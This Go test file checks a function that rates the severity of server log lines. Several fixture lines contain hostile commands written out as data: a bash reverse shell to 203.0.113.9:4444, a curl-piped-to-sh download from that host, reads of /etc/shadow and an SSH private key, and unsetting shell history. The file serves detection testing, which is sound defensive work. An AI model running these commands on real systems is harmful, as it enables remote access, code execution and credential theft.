package llmtest

import "testing"

func TestJudge(t *testing.T) {
	tests := []struct {
		line     string
		severity string
	}{
		{"[01/Feb/2024 14:46:21] 10.0.0.5 veronica08 executed command 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", "critical"},
		{"10.0.0.5 bob executed command 'curl -fsSL http://203.0.113.9/install.sh | sh'", "critical"},
		{"10.0.0.5 bob accessed file '/etc/shadow'", "high"},
		{"10.0.0.5 bob accessed file '/home/bob/.ssh/id_ed25519'", "high"},
		{"10.0.0.5 bob executed command 'unset HISTFILE'", "high"},
		{"sshd[42]: Invalid user oracle from 203.0.113.9", "medium"},
		{"10.0.0.5 bob logged in successfully", "info"},
		{"10.0.0.5 bob accessed file '/home/bob/reports/q3.xlsx'", "info"},
		{"10.0.0.5 bob executed command 'sudo systemctl restart nginx'", "info"},
		{"10.0.0.5 bob executed command 'wget https://releases.example.com/tool.tar.gz'", "info"},
		{"10.0.0.5 bob executed command 'whoami'", "info"},
	}
	for _, tt := range tests {
		j := Judge(tt.line)
		if j.Severity != tt.severity || j.Anomalous != (tt.severity != "info") {
			t.Errorf("Judge(%q) = %s anomalous=%v, want %s", tt.line, j.Severity, j.Anomalous, tt.severity)
		}
	}
}
